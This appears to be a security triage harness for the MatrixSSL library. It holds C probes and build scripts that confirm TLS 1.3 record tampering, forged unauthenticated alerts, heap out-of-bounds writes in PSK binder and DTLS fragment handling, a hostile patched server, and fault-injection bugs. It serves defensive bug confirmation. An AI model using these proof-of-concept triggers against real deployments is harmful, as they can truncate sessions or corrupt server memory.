    int32 out = matrixSslGetOutdata(rx->ssl, &ob);

    printf("   %s: delivered=%zu err=%d alertsSeen=%d(level %d desc %d) "
        "pendingOut=%d\n", tag, rx->sinkLen, rx->err, rx->alerts,
        rx->lastAlertLevel, rx->lastAlertDesc, out);
}

/* P1: header bytes of a protected TLS 1.3 record are neither checked nor
   bound by the AEAD (the additional data is built from constants). */
static void probeHeader(const char *what, int idx, unsigned char val,
    int32 ver, psCipher16_t suite, const char *vname)
{
    ep_t c, s;
    size_t n;

    mkPair(&c, &s, ver, suite);
    n = oneWireRecord(&c, "attack at dawn");
    printf("P1 %s, %s: header %02x %02x %02x %02x %02x -> byte %d := %02x\n",
        vname, what, wire[0], wire[1], wire[2], wire[3], wire[4], idx, val);
    wire[idx] = val;
    feed(&s, wire, n);
    showState("receiver", &s);
    if (s.sinkLen != 0)
    {
        printf("   => data of a MODIFIED protected record was delivered, "
            "session not ended\n");
        g_findings++;
    }
    epFree(&c);
    epFree(&s);
}

/* P2: an unprotected alert record is honoured on an established TLS 1.3
   connection. */
static void probePlainAlert(unsigned char level, unsigned char desc)
{
    ep_t c, s;
    unsigned char alert[7] = { 0x15, 0x03, 0x03, 0x00, 0x02, 0, 0 };
    size_t n;

    alert[5] = level;
    alert[6] = desc;
    mkPair(&c, &s, SSL_FLAGS_TLS_1_3, 0);
    n = oneWireRecord(&c, "first");
    feed(&s, wire, n);
    printf("P2 TLS1.3 forged plaintext alert level %d desc %d injected after "
        "%zu delivered bytes\n", level, desc, s.sinkLen);
    feed(&s, alert, sizeof(alert));
    showState("receiver", &s);
    if (s.alerts > 0)
    {
        printf("   => the application was told the PEER sent alert %d "
            "(unauthenticated; close_notify forgery = silent truncation)\n",
            s.lastAlertDesc);
        g_findings++;
    }
    n = oneWireRecord(&c, "second");
    feed(&s, wire, n);
    showState("after the next genuine record", &s);
    epFree(&c);
    epFree(&s);
}

/* P3: a zero-length application_data record (legal, RFC 8446 5.1). */
static void probeEmpty(void)
{
    ep_t c, s;
    size_t n;
    int rc;

    mkPair(&c, &s, SSL_FLAGS_TLS_1_3, 0);
    rc = appSend(&c, (const unsigned char *) "", 0);
    n = drain(&c, wire, sizeof(wire));
    printf("P3 TLS1.3 zero-length application record: encode rc=%d, %zu wire "
        "bytes\n", rc, n);
    if (n > 0)
    {
        feed(&s, wire, n);
        showState("receiver", &s);
        if (s.err || matrixSslGetOutdata(s.ssl, NULL) > 0)
        {
            printf("   => a legal empty record from the honest peer ends the "
                "session (no attacker involved)\n");
            g_findings++;
        }
    }
    epFree(&c);
    epFree(&s);
}

/* P4: change_cipher_spec injected in front of two records that arrive in
   one read. */
static void probeCcsOffset(void)
{
    ep_t c, s;
    static unsigned char burst[WIRE_MAX];
    static const unsigned char ccs[6] = { 0x14, 0x03, 0x03, 0x00, 0x01, 0x01 };
    size_t n, total = 0;

    mkPair(&c, &s, SSL_FLAGS_TLS_1_3, 0);
    memcpy(burst, ccs, sizeof(ccs));
    total = sizeof(ccs);
    n = oneWireRecord(&c, "record-one;");
    memcpy(burst + total, wire, n);
    total += n;
    n = oneWireRecord(&c, "record-two;");
    memcpy(burst + total, wire, n);
    total += n;
    printf("P4 TLS1.3 [injected CCS][rec1][rec2] in one read (%zu bytes)\n",
        total);
    feed(&s, burst, total);
    showState("receiver", &s);
    printf("   delivered: \"%.*s\"\n", (int) s.sinkLen, s.sink);
    if (s.sinkLen != 22)
    {
        printf("   => second record lost / session broken: "
            "matrixSslProcessedData() forgets the ignored CCS bytes when it "
            "packs the input buffer (still a prefix, so no C02 violation)\n");
    }
    epFree(&c);
    epFree(&s);
}

int main(int argc, char **argv)
{
    harnessOpen(argc > 1 ? argv[1] : ".");

    probeHeader("legacy_record_version major", 1, 0x7f,
        SSL_FLAGS_TLS_1_3, 0, "TLS1.3");
    probeHeader("legacy_record_version minor", 2, 0x00,
        SSL_FLAGS_TLS_1_3, 0, "TLS1.3");
    probeHeader("opaque_type 23 -> 22", 0, 0x16,
        SSL_FLAGS_TLS_1_3, 0, "TLS1.3");
    probeHeader("opaque_type 23 -> 21", 0, 0x15,
        SSL_FLAGS_TLS_1_3, 0, "TLS1.3");
    /* contrast: TLS 1.2 binds and checks the header */
    probeHeader("version minor", 2, 0x02, SSL_FLAGS_TLS_1_2,
        TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256, "TLS1.2-GCM");
    probeHeader("type 23 -> 22", 0, 0x16, SSL_FLAGS_TLS_1_2,
        TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256, "TLS1.2-GCM");
    probeHeader("type 23 -> 22", 0, 0x16, SSL_FLAGS_TLS_1_2,
        TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA256, "TLS1.2-CBC");

    probePlainAlert(1, 0);   /* warning / close_notify */
    probePlainAlert(2, 40);  /* fatal / handshake_failure */
    probeEmpty();
    probeCcsOffset();

    printf("%d probe(s) showed behaviour that conflicts with the C02 text\n",
        g_findings);
    return g_findings ? 1 : 0;
}
