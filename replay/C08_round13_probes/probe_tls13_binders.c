/*
    Side observation probe (UNMODIFIED code): TLS 1.3 client, two external
    PSKs, one for SHA-256 (32 byte key) and one for SHA-384 (48 byte key),
    ClientHello that offers a SHA-256 suite only.

    tls13WritePreSharedKey() skips the SHA-384 PSK (no identity, no binder
    placeholder), but tls13FillInPskBinders() walks the whole session PSK
    list and writes a binder for every entry.  The extra 1 + 48 bytes land
    behind the ClientHello.  With a long PSK identity the ClientHello does not
    fit the default out buffer, matrixSslNewClientSession() reallocates the
    buffer to exactly the size of the message, and the extra binder is
    written past the end of that heap block.

    exit 0: nothing seen; exit 1: out-of-bounds write seen; exit 2: set-up
*/
#include "matrixssl/matrixsslApi.h"
#include "guard.h"

int main(void)
{
    sslKeys_t *keys = NULL;
    ssl_t *cl = NULL;
    sslSessOpts_t opts;
    static unsigned char idA[1600], idB[16];
    unsigned char keyA[32], keyB[48];
    psCipher16_t suite[1] = { TLS_AES_128_GCM_SHA256 };
    int32 rc;

    setvbuf(stdout, NULL, _IONBF, 0);
    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    memset(idA, 'A', sizeof(idA));
    memset(idB, 'B', sizeof(idB));
    memset(keyA, 1, sizeof(keyA));
    memset(keyB, 2, sizeof(keyB));
    if (matrixSslNewKeys(&keys, NULL) < 0 ||
        matrixSslLoadTls13Psk(keys, keyA, sizeof(keyA), idA, sizeof(idA),
            NULL) < 0 ||
        matrixSslLoadTls13Psk(keys, keyB, sizeof(keyB), idB, sizeof(idB),
            NULL) < 0)
    {
        printf("probe: key set-up failed\n");
        return 2;
    }
    memset(&opts, 0, sizeof(opts));
    opts.versionFlag = SSL_FLAGS_TLS_1_3;
    rc = matrixSslNewClientSession(&cl, keys, NULL, suite, 1, NULL, NULL,
            NULL, NULL, &opts);
    printf("matrixSslNewClientSession: %d\n", rc);
    checkAllBlocks("after ClientHello with a skipped PSK");
    if (cl)
    {
        unsigned char *out;
        printf("ClientHello flight: %d bytes\n", matrixSslGetOutdata(cl, &out));
        matrixSslDeleteSession(cl);
    }
    matrixSslDeleteKeys(keys);
    matrixSslClose();
    if (g_violations)
    {
        printf("CONFIRMED: %ld out-of-bounds write(s) in unmodified code\n",
            g_violations);
        return 1;
    }
    printf("not reproduced\n");
    return 0;
}
