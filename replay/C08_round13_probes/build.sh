#!/bin/sh
# usage: sh build.sh /path/to/worktree
# Builds _seed/demo (and the side-observation probes) against the static
# libraries of the worktree.
set -e
ROOT=${1:-/tmp/seed13_C08}
INC="-I$ROOT/_seed -I$ROOT -I$ROOT/core/config -I$ROOT/core/include -I$ROOT/core/osdep/include -I$ROOT/core/include/sfzcl"
LIBS="$ROOT/matrixssl/libssl_s.a $ROOT/crypto/libcrypt_s.a $ROOT/core/libcore_s.a"
WRAP="-Wl,--wrap=malloc -Wl,--wrap=free -Wl,--wrap=calloc -Wl,--wrap=realloc"
DEFS="-DUSE_CL_PKCS -DUSE_CL_CERTLIB -DSEED_ROOT=\"$ROOT\""

cc -O1 -g -Wall $INC $DEFS -o "$ROOT/_seed/demo" "$ROOT/_seed/demo.c" \
    $WRAP $LIBS -lpthread

for p in "$ROOT"/_seed/probe_*.c; do
    [ -f "$p" ] || continue
    o=${p%.c}
    cc -O1 -g -Wall $INC $DEFS -o "$o" "$p" $WRAP $LIBS -lpthread
done
