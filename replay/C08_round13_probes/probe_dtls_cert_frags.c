/*
    Side observation probe (UNMODIFIED code): DTLS server, smallest allowed
    PMTU (matrixDtlsSetPmtu(256)), a certificate chain that needs more than
    MAX_FRAGMENTS (16) handshake fragments.

    sslEncodeResponse() sizes the server flight assuming at most
    MAX_FRAGMENTS fragments for the Certificate message
    ("messageSize += (MAX_FRAGMENTS - 1) * (recordHeadLen + hshakeHeadLen)"),
    but dtls.c:fragmentHSMessage() writes as many fragments as the chain
    needs without looking at the end of the buffer (more than MAX_FRAGMENTS
    is only a trace warning).  Each extra fragment costs 25 bytes the estimate
    did not contain; the buffer was (re)allocated to exactly the estimate.

    exit 0: nothing seen; exit 1: out-of-bounds write seen; exit 2: set-up
*/
#define REDZONE 8192
#include "matrixssl/matrixsslApi.h"
#include "guard.h"

static int32 certCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0;
}

/* Move all datagrams 'from' has queued to 'to'; returns # datagrams or < 0 */
static int32 moveFlight(ssl_t *from, ssl_t *to)
{
    static unsigned char dg[2048];
    unsigned char *out, *rb, *pt;
    uint32 ptLen;
    int32 len, n, rc, count = 0;

    while ((len = matrixDtlsGetOutdata(from, &out)) > 0)
    {
        if (len > (int32) sizeof(dg))
        {
            return -1000;
        }
        memcpy(dg, out, (size_t) len);
        matrixDtlsSentData(from, (uint32) len);
        count++;
        n = matrixSslGetReadbuf(to, &rb);
        if (n < len)
        {
            return -1001;
        }
        memcpy(rb, dg, (size_t) len);
        rc = matrixSslReceivedData(to, (uint32) len, &pt, &ptLen);
        if (rc < 0)
        {
            printf("probe: receiver returned %d\n", rc);
            return rc;
        }
    }
    return count;
}

int main(int argc, char **argv)
{
    const char *root = (argc > 1) ? argv[1] : SEED_ROOT;
    sslKeys_t *svKeys = NULL, *clKeys = NULL;
    ssl_t *cl = NULL, *sv = NULL;
    sslSessOpts_t opts;
    psCipher16_t suite[1] = { TLS_RSA_WITH_AES_128_CBC_SHA };
    char chain[2048], key[512], ca[512];
    int32 rc = 0, i;

    setvbuf(stdout, NULL, _IONBF, 0);
    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    /* The test keys have no chain deeper than leaf + root. The loader wants
       every certificate but the last signed by its successor, which a
       repeated self-signed root satisfies: this stands in for an ordinary
       four level chain of 4096 bit RSA certificates (about 6.7 kB). */
    snprintf(chain, sizeof(chain), "%s/probe_chain.pem", getenv("PROBE_DIR") ? getenv("PROBE_DIR") : "/verif/replay/C08_round13_probes");
    {
        static const char *parts[4] = { "4096_RSA.pem", "4096_RSA_CA.pem",
            "4096_RSA_CA.pem", "4096_RSA_CA.pem" };
        char path[512], buf[4096];
        FILE *o = fopen(chain, "w"), *in;
        size_t n;

        for (i = 0; o && i < 4; i++)
        {
            snprintf(path, sizeof(path), "%s/testkeys/RSA/%s", root, parts[i]);
            if ((in = fopen(path, "r")) == NULL)
            {
                return 2;
            }
            while ((n = fread(buf, 1, sizeof(buf), in)) > 0)
            {
                fwrite(buf, 1, n, o);
            }
            fclose(in);
        }
        if (o == NULL)
        {
            return 2;
        }
        fclose(o);
    }
    snprintf(key, sizeof(key), "%s/testkeys/RSA/4096_RSA_KEY.pem", root);
    snprintf(ca, sizeof(ca), "%s/testkeys/RSA/4096_RSA_CA.pem", root);

    if (matrixSslNewKeys(&svKeys, NULL) < 0 ||
        (rc = matrixSslLoadRsaKeys(svKeys, chain, key, NULL, NULL)) < 0)
    {
        printf("probe: server keys (%d)\n", rc);
        return 2;
    }
    if (matrixSslNewKeys(&clKeys, NULL) < 0 ||
        matrixSslLoadRsaKeys(clKeys, NULL, NULL, NULL, ca) < 0)
    {
        printf("probe: client keys\n");
        return 2;
    }

    memset(&opts, 0, sizeof(opts));
    opts.versionFlag = SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS;
    rc = matrixSslNewClientSession(&cl, clKeys, NULL, suite, 1, certCb, NULL,
            NULL, NULL, &opts);
    if (rc != MATRIXSSL_REQUEST_SEND)
    {
        printf("probe: client session %d\n", rc);
        return 2;
    }
    /* rarely used option: the smallest PMTU the API accepts */
    printf("matrixDtlsSetPmtu(256) -> %d\n", matrixDtlsSetPmtu(256));
    memset(&opts, 0, sizeof(opts));
    opts.versionFlag = SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS;
    if ((rc = matrixSslNewServerSession(&sv, svKeys, NULL, &opts)) < 0)
    {
        printf("probe: server session %d\n", rc);
        return 2;
    }

    /* ClientHello -> HelloVerifyRequest -> ClientHello(cookie) -> the server
       encodes ServerHello, Certificate (fragmented), ServerHelloDone */
    for (i = 0; i < 3 && g_violations == 0; i++)
    {
        rc = moveFlight(cl, sv);
        printf("client -> server: %d datagram(s)\n", rc);
        checkAllBlocks("after the server built its flight");
        if (rc <= 0 || g_violations)
        {
            break;
        }
        rc = moveFlight(sv, cl);
        printf("server -> client: %d datagram(s)\n", rc);
        if (rc <= 0)
        {
            break;
        }
    }
    checkAllBlocks("end");
    matrixSslDeleteSession(cl);
    matrixSslDeleteSession(sv);
    matrixSslDeleteKeys(clKeys);
    matrixSslDeleteKeys(svKeys);
    matrixSslClose();
    if (g_violations)
    {
        printf("CONFIRMED: out-of-bounds write in unmodified code\n");
        return 1;
    }
    printf("not reproduced\n");
    return 0;
}
