/* Guard allocator shared by demo.c and the probes: link with
   -Wl,--wrap=malloc -Wl,--wrap=free -Wl,--wrap=calloc -Wl,--wrap=realloc.
   Every block of the library is followed by a red zone that is checked when
   the block is freed and by checkAllBlocks(); g_live counts live blocks. */
#ifndef SEED_GUARD_H
#define SEED_GUARD_H
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>

/******************************************************************************/
/* Guard allocator */

#ifndef REDZONE
# define REDZONE  256
#endif
#define RZ_BYTE   0xA5
#define NSLOTS    (1u << 17)

typedef struct
{
    unsigned char *user;    /* pointer handed to the library */
    size_t size;            /* requested size */
} slot_t;

static slot_t g_slots[NSLOTS];
static long g_live;
static long g_violations;

void *__real_malloc(size_t n);
void __real_free(void *p);
void *__real_realloc(void *p, size_t n);

static unsigned slotOf(const void *p)
{
    uintptr_t v = (uintptr_t) p;

    return (unsigned) ((v >> 4) * 2654435761u) & (NSLOTS - 1);
}

static slot_t *slotFind(const void *p)
{
    unsigned i = slotOf(p), n;

    for (n = 0; n < NSLOTS; n++, i = (i + 1) & (NSLOTS - 1))
    {
        if (g_slots[i].user == (unsigned char *) p)
        {
            return &g_slots[i];
        }
        if (g_slots[i].user == NULL && g_slots[i].size == 0)
        {
            return NULL; /* never used: end of probe chain */
        }
    }
    return NULL;
}

static void slotAdd(unsigned char *p, size_t size)
{
    unsigned i = slotOf(p), n;

    for (n = 0; n < NSLOTS; n++, i = (i + 1) & (NSLOTS - 1))
    {
        if (g_slots[i].user == NULL)
        {
            g_slots[i].user = p;
            g_slots[i].size = size ? size : (size_t) -1; /* keep chain mark */
            g_live++;
            return;
        }
    }
    fprintf(stderr, "demo: guard allocator table full\n");
    exit(2);
}

static size_t slotSize(const slot_t *s)
{
    return s->size == (size_t) -1 ? 0 : s->size;
}

/* Number of red zone bytes after the block that were overwritten */
static size_t checkBlock(const slot_t *s, const char *when)
{
    size_t i, last = 0, sz = slotSize(s);
    const unsigned char *rz = s->user + sz;

    for (i = 0; i < REDZONE; i++)
    {
        if (rz[i] != RZ_BYTE)
        {
            last = i + 1;
        }
    }
    if (last)
    {
        printf("VIOLATION (%s): heap block of %lu bytes was written up to %lu "
            "byte(s) past its end\n", when, (unsigned long) sz,
            (unsigned long) last);
        g_violations++;
    }
    return last;
}

static void checkAllBlocks(const char *when)
{
    unsigned i;

    for (i = 0; i < NSLOTS; i++)
    {
        if (g_slots[i].user != NULL)
        {
            if (checkBlock(&g_slots[i], when))
            {
                /* report once: repair the red zone */
                memset(g_slots[i].user + slotSize(&g_slots[i]), RZ_BYTE,
                    REDZONE);
            }
        }
    }
}

void *__wrap_malloc(size_t n)
{
    unsigned char *p = __real_malloc(n + REDZONE);

    if (p == NULL)
    {
        return NULL;
    }
    memset(p, 0xCD, n);             /* never hand out zeroed memory */
    memset(p + n, RZ_BYTE, REDZONE);
    slotAdd(p, n);
    return p;
}

void __wrap_free(void *p)
{
    slot_t *s;

    if (p == NULL)
    {
        return;
    }
    s = slotFind(p);
    if (s == NULL)
    {
        __real_free(p);             /* allocated inside libc (strdup, ...) */
        return;
    }
    (void) checkBlock(s, "at free");
    memset(s->user, 0xDD, slotSize(s));
    s->user = NULL;                 /* size stays != 0: probe chain intact */
    if (s->size == 0)
    {
        s->size = (size_t) -1;
    }
    g_live--;
    __real_free(p);
}

void *__wrap_calloc(size_t a, size_t b)
{
    void *p = __wrap_malloc(a * b);

    if (p)
    {
        memset(p, 0, a * b);
    }
    return p;
}

void *__wrap_realloc(void *p, size_t n)
{
    slot_t *s;
    void *q;
    size_t old;

    if (p == NULL)
    {
        return __wrap_malloc(n);
    }
    s = slotFind(p);
    if (s == NULL)
    {
        return __real_realloc(p, n);
    }
    old = slotSize(s);
    q = __wrap_malloc(n);
    if (q == NULL)
    {
        return NULL;
    }
    memcpy(q, p, old < n ? old : n);
    __wrap_free(p);
    return q;
}

#endif /* SEED_GUARD_H */
