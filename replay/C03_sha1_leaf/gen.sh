set -e
D=/tmp/sha1gen
cat > $D/ext.cnf <<'X'
[leaf]
basicConstraints=CA:FALSE
keyUsage=digitalSignature,keyEncipherment
X
openssl genrsa -out $D/ca.key 2048 2>/dev/null
openssl req -new -x509 -sha256 -key $D/ca.key -subj "/CN=root-ca" -days 3650 -out $D/ca.pem -addext "basicConstraints=critical,CA:TRUE" -addext "keyUsage=critical,keyCertSign"
openssl genrsa -out $D/leaf.key 2048 2>/dev/null
openssl req -new -key $D/leaf.key -subj "/CN=leaf.example.com" -out $D/difflen.csr
openssl req -new -key $D/leaf.key -subj "/CN=leaf-ca" -out $D/samelen.csr
openssl x509 -req -sha1 -in $D/difflen.csr -CA $D/ca.pem -CAkey $D/ca.key -CAcreateserial -days 3650 -extfile $D/ext.cnf -extensions leaf -out $D/leaf_sha1_difflen.pem
openssl x509 -req -sha1 -in $D/samelen.csr -CA $D/ca.pem -CAkey $D/ca.key -CAcreateserial -days 3650 -extfile $D/ext.cnf -extensions leaf -out $D/leaf_sha1_samelen.pem
openssl x509 -req -sha256 -in $D/difflen.csr -CA $D/ca.pem -CAkey $D/ca.key -CAcreateserial -days 3650 -extfile $D/ext.cnf -extensions leaf -out $D/leaf_sha256.pem
