/* One TLS 1.2 endpoint over a connected socket (fd = argv[2]); role = argv[1] ("server" | "client").
   The SERVER binary is linked against a scratch copy of the library patched to misbehave (hostile.diff: its HelloRequest goes
   out with handshake type client_hello), the CLIENT binary against the library under test.  After the handshake the server
   sends that message; the client must treat a ClientHello as an unexpected message - it must not run the server-side
   ClientHello machinery (sslResetContext, parseClientHello) on a client session.  Triage only. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include "harness.h"
#include "matrixssl/matrixssllib.h"
int main(int argc, char **argv)
{
    int server = argc > 1 && !strcmp(argv[1], "server"), fd = argc > 2 ? atoi(argv[2]) : 0;
    hPeer p = {0};
    unsigned char *buf, *pt; uint32 ptLen; int32 rc = 0, n; int sentEvil = 0, alert = -1;
    if (server) { h_server_keys(&p); if (h_new_server(&p, SSL_FLAGS_TLS_1_2) < 0) return 2; }
    else if (h_new_client(&p, SSL_FLAGS_TLS_1_2, NULL, 0, h_certCbAllowAll) < 0) return 2;
    for (;;)
    {
        while ((n = matrixSslGetOutdata(p.ssl, &buf)) > 0)
        {
            if (!server && p.hsDone && n >= 7) alert = buf[n - 1] < 120 && n == 7 ? buf[6] : alert;
            if (write(fd, buf, n) != n) return 3;
            rc = matrixSslSentData(p.ssl, n);
            if (rc == MATRIXSSL_HANDSHAKE_COMPLETE) p.hsDone = 1;
            if (rc == MATRIXSSL_REQUEST_CLOSE || rc < 0) goto out;
        }
        if (server && p.hsDone && !sentEvil)
        {
            sentEvil = 1;
            {
                /* server side: HelloRequest -> (hostile) ClientHello; the internal encoder is called directly because the
                   re-handshake API is compiled out in the default configuration */
                sslBuf_t sb; uint32 req = 0;
                sb.buf = sb.start = p.ssl->outbuf; sb.end = p.ssl->outbuf + p.ssl->outlen; sb.size = p.ssl->outsize;
                rc = matrixSslEncodeHelloRequest(p.ssl, &sb, &req);
                if (rc >= 0) p.ssl->outlen = (int32) (sb.end - sb.buf);
            }
            fprintf(stderr, "[server] hostile message queued: %d\n", rc);
            continue;
        }
        if (server && sentEvil) break;
        n = matrixSslGetReadbuf(p.ssl, &buf);
        if (n <= 0) break;
        n = read(fd, buf, n);
        if (n <= 0) break;
        rc = matrixSslReceivedData(p.ssl, n, &pt, &ptLen);
        while (rc == MATRIXSSL_RECEIVED_ALERT || rc == MATRIXSSL_APP_DATA)
            rc = matrixSslProcessedData(p.ssl, &pt, &ptLen);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE) { p.hsDone = 1; if (!server) continue; }
        if (!server && p.hsDone) break;
        if (rc < 0) { fprintf(stderr, "[%s] error %d\n", argv[1], rc); break; }
    }
out:
    if (!server)
    {
        int confused = (p.ssl->hsState == SSL_HS_CLIENT_HELLO);
        printf("client after the server's ClientHello: rc=%d hsState=%d err(alert)=%d flags&SERVER=%d\n", (int) rc, (int) p.ssl->hsState,
            (int) p.ssl->err, (int) (p.ssl->flags & SSL_FLAGS_SERVER));
        printf("RESULT %s\n", confused ? "VIOLATED (the client reset its context and ran the ClientHello state: hsState == SSL_HS_CLIENT_HELLO)"
                                       : "ok (ClientHello refused by the client)");
        return confused ? 1 : 0;
    }
    return 0;
}
