#!/bin/sh
# usage: run.sh   - hostile TLS 1.2 server (scratch copy of /repo's HEAD + hostile.diff) against the client of /repo's working tree
D=/verif/replay/C06_client_gets_clienthello; H=/tmp/c06ch_hostile
rm -rf $H; mkdir -p $H
(cd /repo && git archive HEAD | (cd $H && tar xf -)); for f in crypto/cryptoConfig.h matrixssl/matrixsslConfig.h core/config/coreConfig.h; do cp /repo/$f $H/$f; done
(cd $H && patch -p1 -s < $D/hostile.diff && make libs > $H/build.log 2>&1) || { echo "hostile build failed"; exit 2; }
inc() { echo "-I/verif/replay -I$1 -I$1/core/config -I$1/core/include -I$1/core/osdep/include -I$1/core/include/sfzcl $1/matrixssl/libssl_s.a $1/crypto/libcrypt_s.a $1/core/libcore_s.a -lpthread -w"; }
cc -o /tmp/c06ch_server $D/peer.c $(inc $H) && cc -o /tmp/c06ch_client $D/peer.c $(inc /repo) || exit 2
python3 - <<'PY'
import socket, subprocess, os, sys
a, b = socket.socketpair()
s = subprocess.Popen(["/tmp/c06ch_server", "server", str(a.fileno())], pass_fds=[a.fileno()])
c = subprocess.Popen(["/tmp/c06ch_client", "client", str(b.fileno())], pass_fds=[b.fileno()])
rc = c.wait(timeout=30); a.close(); b.close()
try: s.wait(timeout=5)
except Exception: s.kill()
sys.exit(rc)
PY
rc=$?; rm -rf $H; exit $rc
