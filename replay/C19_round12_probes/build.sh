#!/bin/sh
set -e
W=${1:-/tmp/seed12_C19}
for p in probe_readbuf probe_cabundle; do
cc -O1 -g -Wall -I"$W" -I"$W/core/config" -I"$W/core/include" -I"$W/core/osdep/include" \
   -I"$W/core/include/sfzcl" -o "$W/_seed/side_probes/$p" "$W/_seed/side_probes/$p.c" \
   -Wl,--wrap=malloc -Wl,--wrap=calloc -Wl,--wrap=realloc -Wl,--wrap=free \
   "$W/matrixssl/libssl_s.a" "$W/crypto/libcrypt_s.a" "$W/core/libcore_s.a" -lpthread
done
