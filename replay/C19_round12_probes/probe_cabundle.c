/* Side probe (unmodified code): loading a two-certificate CA bundle while one
   allocation fails can return SUCCESS with a CA left half parsed in (or
   missing from) the trust list, instead of an error.
   usage: probe_cabundle <worktree> ; exit 1 when that happens for some k. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "matrixssl/matrixsslApi.h"
#include "matrixssl/matrixssllib.h"

void *__real_malloc(size_t); void *__real_calloc(size_t, size_t);
void *__real_realloc(void *, size_t); void __real_free(void *);
void __wrap_free(void *p) { __real_free(p); }
static long cnt, failAt; static int armed;
static int hit(void) { if (!armed) return 0; cnt++; return failAt && cnt == failAt; }
void *__wrap_malloc(size_t n) { return hit() ? NULL : __real_malloc(n); }
void *__wrap_calloc(size_t a, size_t b) { return hit() ? NULL : __real_calloc(a, b); }
void *__wrap_realloc(void *o, size_t n) { return hit() ? NULL : __real_realloc(o, n); }

static long slurp(const char *path, unsigned char *dst, long max)
{
    FILE *f = fopen(path, "rb"); long n;
    if (!f) { perror(path); exit(2); }
    n = (long) fread(dst, 1, (size_t) max, f); fclose(f); return n;
}

int main(int argc, char **argv)
{
    static unsigned char pem[16384]; char path[512]; long len, k, total;
    const char *w = argc > 1 ? argv[1] : "/tmp/seed12_C19";
    sslKeys_t *keys; psX509Cert_t *c; int32 rc; int bad = 0, good, all;

    snprintf(path, sizeof(path), "%s/testkeys/EC/256_EC_CA.pem", w);
    len = slurp(path, pem, sizeof(pem));
    snprintf(path, sizeof(path), "%s/testkeys/EC/384_EC_CA.pem", w);
    len += slurp(path, pem + len, (long) sizeof(pem) - len);
    matrixSslOpen();
    for (k = 0;; k++)
    {
        matrixSslNewKeys(&keys, NULL);
        cnt = 0; failAt = k; armed = 1;
        rc = matrixSslLoadEcKeysMem(keys, NULL, 0, NULL, 0, pem, (int32) len);
        armed = 0;
        if (k == 0) { total = cnt; }
        good = all = 0;
        for (c = keys->CAcerts; c; c = c->next)
        {
            all++; good += (c->parseStatus == PS_X509_PARSE_SUCCESS);
        }
        if (k == 0)
        {
            printf("no fault: rc=%d, %d/%d CAs parsed, %ld allocations\n", rc,
                good, all, total);
        }
        else if (rc >= 0 && good != 2)
        {
            if (bad < 10)
            {
                printf("allocation #%ld fails: load returns %d (success) "
                    "with %d/%d usable CAs in the list\n", k, rc, good, all);
            }
            bad++;
        }
        matrixSslDeleteKeys(keys);
        if (k >= total) { break; }
    }
    printf("%d of %ld single faults: success returned with a CA dropped\n",
        bad, total);
    matrixSslClose();
    return bad ? 1 : 0;
}
