/* Side probe (unmodified code): matrixSslGetReadbufOfSize() drops the receive
   buffer when its realloc fails - the old block (still valid after a failed
   realloc) is leaked and the session is left with inbuf == NULL.
   Exit 1 when a block is still live after matrixSslDeleteSession. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "matrixssl/matrixsslApi.h"
#include "matrixssl/matrixssllib.h"
#include "testkeys/EC/256_EC_CA.h"

void *__real_malloc(size_t); void *__real_calloc(size_t, size_t);
void *__real_realloc(void *, size_t); void __real_free(void *);
static long live; static int failRealloc;
void *__wrap_malloc(size_t n) { void *p = __real_malloc(n); if (p) live++; return p; }
void *__wrap_calloc(size_t a, size_t b) { void *p = __real_calloc(a, b); if (p) live++; return p; }
void *__wrap_realloc(void *o, size_t n)
{
    void *p;
    if (failRealloc) { return NULL; }
    p = __real_realloc(o, n); if (p && !o) live++; return p;
}
void __wrap_free(void *p) { if (p) live--; __real_free(p); }

static int32 certCb(ssl_t *s, psX509Cert_t *c, int32 a) { (void) s; (void) c; return a; }

int main(void)
{
    sslKeys_t *keys; ssl_t *ssl; sslSessOpts_t o; unsigned char *buf, *pt;
    psCipher16_t suite[1] = { 0xC02B }; uint32 ptlen; int32 rc, n; long base;
    static const unsigned char hdr[3] = { 22, 3, 3 }; /* start of a record */

    matrixSslOpen();
    matrixSslNewKeys(&keys, NULL);
    matrixSslLoadEcKeysMem(keys, NULL, 0, NULL, 0, EC256CA, EC256CA_SIZE);
    memset(&o, 0, sizeof(o)); o.versionFlag = SSL_FLAGS_TLS_1_2;
    base = live;
    rc = matrixSslNewClientSession(&ssl, keys, NULL, suite, 1, certCb, NULL,
            NULL, NULL, &o);
    if (rc != MATRIXSSL_REQUEST_SEND) { printf("setup %d\n", rc); return 2; }
    n = matrixSslGetReadbuf(ssl, &buf);
    memcpy(buf, hdr, 3);
    rc = matrixSslReceivedData(ssl, 3, &pt, &ptlen);   /* wants more */
    printf("ReceivedData(3 bytes) = %d, inlen = %d\n", rc, ssl->inlen);
    failRealloc = 1;
    rc = matrixSslGetReadbufOfSize(ssl, n + 4096, &buf);
    failRealloc = 0;
    printf("GetReadbufOfSize with failing realloc = %d, inbuf = %p\n", rc,
        (void *) ssl->inbuf);
    matrixSslDeleteSession(ssl);
    printf("live blocks after matrixSslDeleteSession: %ld\n", live - base);
    rc = (live - base) ? 1 : 0;   /* verdict taken here: the keys are released below */
    matrixSslDeleteKeys(keys);
    matrixSslClose();
    return rc;
}
