#!/bin/sh
R=${1:-/repo}
cc -o /tmp/c17_f9 $(dirname $0)/f9.c -I/verif/replay -I$R -I$R/core/config -I$R/core/include -I$R/core/osdep/include \
   -I$R/core/include/sfzcl -Wl,--wrap=psGetPrngLocked $R/matrixssl/libssl_s.a $R/crypto/libcrypt_s.a $R/core/libcore_s.a -lpthread -w && /tmp/c17_f9
