/* Triage replay for C17.R4 (F9): a failing psGetPrngLocked is only traced in writeRecordHeader, so the explicit CBC
   IV of the record is whatever the output buffer held.  With the PRNG failing, two consecutive application records
   go out with the same (stale) IV bytes.
   build: cc ... -Wl,--wrap=psGetPrngLocked (see run.sh).  exit 0 = defect absent (send fails cleanly or IVs fresh),
   exit 1 = defect shown. */
#include "harness.h"
